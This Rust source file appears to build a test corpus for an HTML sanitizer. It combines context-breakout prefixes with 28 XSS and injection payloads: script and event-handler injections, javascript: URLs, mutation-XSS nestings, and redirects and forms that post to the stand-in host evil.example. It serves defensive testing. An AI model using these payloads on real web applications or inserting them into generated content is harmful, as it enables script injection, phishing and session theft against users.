//! What attackers write, in every place where they try to get out of.

/// Ways out of where a text stands.
const OUT: [&str; 18] = [
    "",
    "</title>",
    "\">",
    "'>",
    "-->",
    "]]>",
    "</script>",
    "</textarea>",
    "</style>",
    "</code></pre>",
    "</a>",
    "</p></div></main>",
    "</select></option>",
    "</noscript>",
    "</template>",
    "</svg>",
    "`",
    "\n\n",
];

/// What they want there. Whatever comes of it bears `evil` in its name, or is no element of ours.
const IN: [&str; 28] = [
    "<script>evil()</script>",
    "<img src=x onerror=evil()>",
    "<svg onload=evil()>",
    "<meta http-equiv=refresh content=\"0;url=https://evil.example/\">",
    "<meta http-equiv=refresh content='0;url=https://evil.example/?",
    "<form method=post action=https://evil.example/><button>Session expired. Continue</button></form>",
    "<form method=post action=/do/act><input type=hidden name=evil value=merge></form>",
    "<base href=https://evil.example/>",
    "<iframe srcdoc=\"<script>evil()</script>\"></iframe>",
    "<link rel=stylesheet href=https://evil.example/>",
    "<style>@import 'https://evil.example/'</style>",
    "<a href=javascript:evil()>x</a>",
    "<x-evil data-evil=1>",
    "\" onmouseover=evil() data-evil=\"",
    "' autofocus onfocus=evil() data-evil='",
    " onmouseover=evil() data-evil=1 ",
    "javascript:evil()",
    "data:text/html,<script>evil()</script>",
    "[x](javascript:evil()) ![x](https://evil.example/x.png)",
    "<math><mtext><table><mglyph><style><img src=x onerror=evil()>",
    "<noscript><p title=\"</noscript><img src=x onerror=evil()>\">",
    "<template shadowrootmode=open><x-evil></x-evil></template>",
    "<!--<img src=\"--><img src=x onerror=evil()>\">",
    "<textarea><x-evil>",
    "<object data=javascript:evil()><embed src=javascript:evil()>",
    "<button formaction=https://evil.example/>x</button><input type=image formaction=javascript:evil()>",
    "&lt;x-evil&gt;&#60;img src=x onerror=evil()&#62;",
    "\\u003cx-evil\\u003e\u{ff1c}x-evil\u{ff1e}\u{202e}\u{0}",
];

/// Every way out with everything that is wanted: 504 texts.
pub fn all() -> Vec<String> {
    IN.iter().flat_map(|wanted| OUT.iter().map(move |out| format!("{out}{wanted}"))).collect()
}
